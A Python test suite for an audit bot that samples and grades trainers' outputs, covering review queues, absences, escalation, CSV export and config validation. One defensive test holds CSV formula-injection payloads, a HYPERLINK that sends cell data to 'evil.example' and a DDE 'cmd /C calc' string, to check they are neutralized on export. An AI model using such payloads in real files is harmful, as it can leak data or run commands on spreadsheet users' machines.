"""The status services on a real database: counts, pending, away and pause, the escalation
path around people who are away, the export, the config sections they read."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlmodel import Session, select

from bot.entry.cli import main
from bot.services.audit import plan_weekly_audit
from bot.services.escalation import check_trainer
from bot.services.export import export_grades
from bot.services.grading import record_grade
from bot.services.home_feed import dirty_viewers, mark_homes_dirty, record_viewer
from bot.services.ingest import ingest, records_from_json_array, roster_from_workspace
from bot.services.pending import pending_for
from bot.services.people import NotAllowed, away_on, set_away, set_paused
from bot.services.status import team_status
from bot.services.trainer_report import marker_target
from bot.store.db import make_engine, upgrade
from bot.store.models import EscalationNotice, Sample
from bot.workspace import WorkspaceError, parse_workspace
from bot.workspace.describe import describe_workspace
from tests.conftest import NOW
from tests.support.factories import (
    DOCTOR,
    LAWYER,
    LEAD,
    MANAGER,
    NURSE,
    TRAINER1,
    TRAINER2,
    make_workspace,
    week_of_records,
    workspace_data,
)

WHY = "Recommends ibuprofen although the patient has stated CKD stage 3."


def _audit(session: Session, workspace, *, now=NOW, count: int = 5) -> list[Sample]:
    trainers, task_types = roster_from_workspace(workspace)
    records = week_of_records(now, count=count)
    for record in records:
        record["id"] += now.strftime("-%G-W%V")
    ingest(session, records_from_json_array(records), known_trainers=trainers,
           known_task_types=task_types, now=now)
    plan_weekly_audit(session, workspace, now=now)
    session.commit()
    return list(session.exec(select(Sample).order_by(Sample.id)).all())


def _grade(session: Session, workspace, sample: Sample, reviewer: str, grade: str,
           now=NOW) -> None:
    record_grade(session, workspace, sample_id=sample.id, reviewer=reviewer, grade=grade,
                 category=None if grade == "pass" else "Unsafe advice",
                 explanation=None if grade == "pass" else WHY, now=now)
    session.commit()


# --- counts and pending -------------------------------------------------------------------------

def test_double_review_samples_wait_for_a_second_different_reviewer(session: Session):
    workspace = make_workspace(double_review_fraction=1.0)
    samples = _audit(session, workspace)
    _grade(session, workspace, samples[0], NURSE, "pass")
    _grade(session, workspace, samples[1], NURSE, "major")
    _grade(session, workspace, samples[1], DOCTOR, "major")
    nurse = pending_for(session, workspace, user=NURSE)
    doctor = pending_for(session, workspace, user=DOCTOR)
    assert [s.sample_id for s in nurse.samples] == [s.id for s in samples[2:]]
    assert [s.sample_id for s in doctor.samples] == [samples[0].id] + [s.id for s in samples[2:]]
    assert doctor.samples[0].second_review and not doctor.samples[1].second_review
    clinical = team_status(session, workspace, now=NOW, viewer=None).task_types[0]
    assert (clinical.graded_week, clinical.samples_week) == (1, 5)  # a lone grade is not in
    assert clinical.backlog.waiting == 4  # three ungraded, one with one review of two


def test_nobody_is_asked_to_grade_their_own_output(session: Session):
    workspace = make_workspace()
    trainers, task_types = roster_from_workspace(workspace)
    ingest(session, records_from_json_array(week_of_records(NOW, trainer=NURSE, count=2)),
           known_trainers=trainers, known_task_types=task_types, now=NOW)
    plan_weekly_audit(session, workspace, now=NOW)
    session.commit()
    assert pending_for(session, workspace, user=NURSE).total == 0
    assert pending_for(session, workspace, user=DOCTOR).total == 2


def test_a_lead_is_not_asked_to_grade_the_trainers_they_lead(session: Session):
    data = workspace_data()
    data["trainers"][0]["lead"] = DOCTOR
    workspace = parse_workspace(data)
    _audit(session, workspace)
    assert pending_for(session, workspace, user=DOCTOR).total == 0
    assert pending_for(session, workspace, user=NURSE).total == 5


def test_team_status_counts_away_and_paused_trainers_apart_from_missing(session: Session):
    workspace = make_workspace()
    set_paused(session, workspace, trainer=TRAINER2, paused=True, by=MANAGER, now=NOW)
    set_away(session, workspace, user=TRAINER1, until=date(2026, 11, 30), by=LEAD, now=NOW)
    session.commit()
    _audit(session, workspace)
    clinical, legal = team_status(session, workspace, now=NOW, viewer=None).task_types
    assert (clinical.audited, clinical.away, clinical.missing) == (0, (TRAINER1,), (NURSE,))
    assert (legal.paused, legal.missing) == ((TRAINER2,), ())


# --- away and pause -----------------------------------------------------------------------------

def test_config_and_store_absences_both_count(session: Session):
    data = workspace_data()
    data["away"] = [{"user": DOCTOR, "from": "2026-12-20", "until": "2027-01-02"}]
    workspace = parse_workspace(data)
    set_away(session, workspace, user=NURSE, until=date(2026, 12, 24), by=NURSE, now=NOW)
    assert away_on(session, workspace, day=date(2026, 11, 23)) == {NURSE: date(2026, 12, 24)}
    assert away_on(session, workspace, day=date(2026, 12, 21)) == {
        NURSE: date(2026, 12, 24), DOCTOR: date(2027, 1, 2)}
    assert away_on(session, workspace, day=date(2026, 12, 25)) == {DOCTOR: date(2027, 1, 2)}


def test_only_the_person_their_lead_or_a_manager_sets_away(session: Session):
    workspace = make_workspace()
    with pytest.raises(NotAllowed):
        set_away(session, workspace, user=TRAINER1, until=date(2026, 12, 1), by=NURSE, now=NOW)
    for by in (TRAINER1, LEAD, MANAGER):
        set_away(session, workspace, user=TRAINER1, until=date(2026, 12, 1), by=by, now=NOW)


def test_an_escalation_level_whose_people_are_all_away_goes_to_the_next(session: Session):
    workspace = make_workspace()
    set_away(session, workspace, user=LEAD, until=date(2026, 12, 31), by=LEAD, now=NOW)
    for week, grades in ((1, ["major"] * 5), (0, ["major"] * 5)):
        now = NOW - timedelta(weeks=week)
        samples = _audit(session, workspace, now=now)[-5:]  # this week's
        for sample, grade in zip(samples, grades, strict=True):
            _grade(session, workspace, sample, NURSE if sample.position % 2 else DOCTOR, grade,
                   now=now)
    outcome = check_trainer(session, workspace, trainer=TRAINER1, task_type="clinical", now=NOW)
    session.commit()
    assert outcome.opened
    assert [n.target for n in session.exec(select(EscalationNotice)).all()] == [MANAGER]


# --- the Home's marks ---------------------------------------------------------------------------

def test_home_marks_are_coalesced_and_only_for_viewers(session: Session):
    record_viewer(session, user=NURSE, now=NOW)
    for minutes in range(5):
        mark_homes_dirty(session, users={NURSE, LAWYER}, now=NOW + timedelta(minutes=minutes))
    session.commit()
    assert [(home.user, home.since) for home in dirty_viewers(session)] == [(NURSE, NOW)]


# --- export -------------------------------------------------------------------------------------

def test_export_has_one_row_per_reviewers_grade_in_the_window(session: Session):
    workspace = make_workspace()
    old = _audit(session, workspace, now=NOW - timedelta(weeks=5))
    _grade(session, workspace, old[0], NURSE, "pass", now=NOW - timedelta(weeks=5))
    samples = [s for s in _audit(session, workspace) if s.id not in {o.id for o in old}]
    _grade(session, workspace, samples[0], NURSE, "major")
    _grade(session, workspace, samples[0], DOCTOR, "minor")
    _grade(session, workspace, samples[1], DOCTOR, "pass")
    export = export_grades(session, workspace, weeks=4, now=NOW)
    rows = list(csv.DictReader(io.StringIO(export.csv)))
    assert export.rows == len(rows) == 3 and export.weeks[-1] == "2026-W48"
    assert [(r["reviewer"], r["grade"]) for r in rows] == [
        (NURSE, "major"), (DOCTOR, "minor"), (DOCTOR, "pass")]
    assert rows[0]["explanation"] == WHY and rows[0]["sample"] == "1 of 5"
    assert len(list(csv.reader(io.StringIO(
        export_grades(session, workspace, weeks=6, now=NOW).csv)))) == 5
    # Without weeks: the longest scoring window of any task type (4 here), as /audit export.
    assert export_grades(session, workspace, now=NOW).rows == 3


def test_auditbot_export_writes_the_csv(tmp_path, monkeypatch, capsys):
    database = tmp_path / "auditbot.db"
    engine = make_engine(f"sqlite:///{database}")
    upgrade(engine)
    workspace = make_workspace()
    with Session(engine) as session:
        today = datetime.now(UTC)  # the command exports the window ending this week
        samples = _audit(session, workspace, now=today)
        _grade(session, workspace, samples[0], NURSE, "pass", now=today)
    engine.dispose()
    (tmp_path / "auditbot.toml").write_text(_toml())
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{database}")
    monkeypatch.setenv("AUDITBOT_CONFIG", str(tmp_path / "auditbot.toml"))
    assert main(["export", "--weeks", "2", "--out", "grades.csv"]) == 0
    assert "grades.csv: 1 grades" in capsys.readouterr().out
    rows = list(csv.DictReader((tmp_path / "grades.csv").open()))
    assert [(r["trainer"], r["reviewer"], r["grade"]) for r in rows] == [
        (TRAINER1, NURSE, "pass")]
    assert main(["export", "--weeks", "0", "--out", "x.csv"]) == 2


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details on the dose error")'


def test_auditbot_export_neutralizes_cells_a_spreadsheet_would_run(tmp_path, monkeypatch):
    database = tmp_path / "auditbot.db"
    engine = make_engine(f"sqlite:///{database}")
    upgrade(engine)
    workspace = make_workspace()
    trainers, task_types = roster_from_workspace(workspace)
    today = datetime.now(UTC)
    records = week_of_records(today, count=2)
    records[0]["id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    records[1]["id"] = "-2+3"
    with Session(engine) as session:
        ingest(session, records_from_json_array(records), known_trainers=trainers,
               known_task_types=task_types, now=today)
        plan_weekly_audit(session, workspace, now=today)
        session.commit()
        first, second = session.exec(select(Sample).order_by(Sample.id)).all()
        record_grade(session, workspace, sample_id=first.id or 0, reviewer=NURSE,
                     grade="major", category="Unsafe advice", explanation=FORMULA, now=today)
        record_grade(session, workspace, sample_id=second.id or 0, reviewer=NURSE,
                     grade="minor", category="Unsafe advice",
                     explanation="+ Recommends a dose above the stated maximum.", now=today)
        session.commit()
    engine.dispose()
    (tmp_path / "auditbot.toml").write_text(_toml())
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{database}")
    monkeypatch.setenv("AUDITBOT_CONFIG", str(tmp_path / "auditbot.toml"))
    assert main(["export", "--weeks", "1", "--out", "grades.csv"]) == 0
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as written:
        rows = list(csv.DictReader(written))
    by_output = {r["output_id"]: r for r in rows}
    assert set(by_output) == {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"}
    assert by_output["'@SUM(1+1)*cmd|' /C calc'!A0"]["explanation"] == f"'{FORMULA}"
    assert by_output["'-2+3"]["explanation"] == "'+ Recommends a dose above the stated maximum."
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _toml() -> str:
    return f"""
[workspace]
timezone = "America/New_York"
managers = ["{MANAGER}"]
[[task_types]]
key = "clinical"
name = "Clinical NLP"
channel = "C0CLINICAL"
reviewers = ["{NURSE}", "{DOCTOR}"]
error_categories = ["Unsafe advice", "Other"]
[[task_types]]
key = "legal"
name = "Legal"
channel = "C0LEGAL"
reviewers = ["{LAWYER}"]
[[trainers]]
user = "{TRAINER1}"
task_types = ["clinical"]
lead = "{LEAD}"
[[trainers]]
user = "{TRAINER2}"
task_types = ["legal"]
"""


# --- config -------------------------------------------------------------------------------------

def test_onboarding_away_and_nudge_times_are_read_and_defaulted():
    data = workspace_data()
    data["schedule"]["weekly_audit"] = "tue 08:30"
    data["onboarding"] = {"days": 60, "markers": [{"week": 2, "min_score": 0.5},
                                                  {"week": 8, "min_score": "threshold"}]}
    data["away"] = [{"user": LAWYER, "until": date(2026, 12, 31)}]
    workspace = parse_workspace(data)
    assert str(workspace.schedule.reviewer_reminder) == "thu 08:30"
    assert str(workspace.schedule.weekly_digest) == "tue 09:30"
    assert [(m.week, m.min_score) for m in workspace.onboarding.markers] == [(2, 0.5), (8, None)]
    assert workspace.away[0].until == date(2026, 12, 31) and workspace.away[0].start is None
    default = make_workspace()
    assert [(m.week, m.min_score) for m in default.onboarding.markers] == [
        (4, 0.75), (8, 0.85), (12, None)]


def test_onboarding_markers_may_name_any_dimension_of_the_scorecard():
    data = workspace_data(consistency_threshold=0.7)
    data["task_types"][1]["consistency_threshold"] = 0.6  # legal's own
    data["onboarding"] = {"markers": [
        {"week": 4, "min_score": 0.75}, {"week": 4, "min_score": 0.5, "dimension": "clarity"},
        {"week": 8, "min_score": "threshold", "dimension": "consistency"},
        {"week": 6, "min_score": 0.8, "dimension": "clarity"}]}  # each dimension in order
    workspace = parse_workspace(data)
    assert [(m.week, m.dimension, m.min_score) for m in workspace.onboarding.markers] == [
        (4, "precision", 0.75), (4, "clarity", 0.5), (8, "consistency", None),
        (6, "clarity", 0.8)]
    assert "week 4 >= 0.75, week 4 clarity >= 0.5, week 8 consistency >= threshold" in \
        describe_workspace(workspace)
    consistency = workspace.onboarding.markers[2]
    assert marker_target(consistency, workspace.task_type("clinical")) == 0.7
    assert marker_target(consistency, workspace.task_type("legal")) == 0.6


def test_a_threshold_marker_names_the_task_types_without_that_threshold():
    data = workspace_data()
    data["task_types"][0]["clarity_threshold"] = 0.8  # clinical only
    data["onboarding"] = {"markers": [{"week": 4, "min_score": "threshold",
                                       "dimension": "clarity"}]}
    with pytest.raises(WorkspaceError) as error:
        parse_workspace(data)
    [problem] = error.value.problems
    assert problem.path == "onboarding.markers[0].min_score"
    assert "[policy] clarity_threshold" in problem.message and "'legal'" in problem.message
    assert "'clinical'" not in problem.message


@pytest.mark.parametrize(("section", "value", "path"), [
    ("onboarding", {"days": 3}, "onboarding.days"),
    ("onboarding", {"markers": [{"week": 4, "min_score": 1.5}]}, "onboarding.markers[0].min_score"),
    ("onboarding", {"markers": [{"week": 8, "min_score": 0.8}, {"week": 4, "min_score": 0.7}]},
     "onboarding.markers[1].week"),
    ("onboarding", {"markers": [{"min_score": 0.8}]}, "onboarding.markers[0].week"),
    ("onboarding", {"marks": []}, "onboarding.marks"),
    ("onboarding", {"markers": [{"week": 4, "min_score": 0.7, "dimension": "speed"}]},
     "onboarding.markers[0].dimension"),
    ("onboarding", {"markers": [{"week": 4, "min_score": 0.7, "dimension": "clarity"},
                                {"week": 4, "min_score": 0.8, "dimension": "clarity"}]},
     "onboarding.markers[1].week"),
    # no [policy] clarity_threshold: "threshold" means nothing for clarity
    ("onboarding", {"markers": [{"week": 4, "min_score": "threshold", "dimension": "clarity"}]},
     "onboarding.markers[0].min_score"),
    ("away", [{"user": "U0NOBODY1", "until": "2026-12-01"}], "away[0].user"),
    ("away", [{"user": LAWYER, "until": "2026-13-01"}], "away[0].until"),
    ("away", [{"user": LAWYER}], "away[0].until"),
    ("away", [{"user": LAWYER, "until": "2026-12-01", "from": "2026-12-05"}], "away[0].from"),
    ("schedule", {"reviewer_reminder": "someday"}, "schedule.reviewer_reminder"),
])
def test_config_mistakes_name_their_key_path(section, value, path):
    data = workspace_data()
    data[section] = {**data.get(section, {}), **value} if isinstance(value, dict) else value
    with pytest.raises(WorkspaceError) as error:
        parse_workspace(data)
    assert path in [p.path for p in error.value.problems], error.value
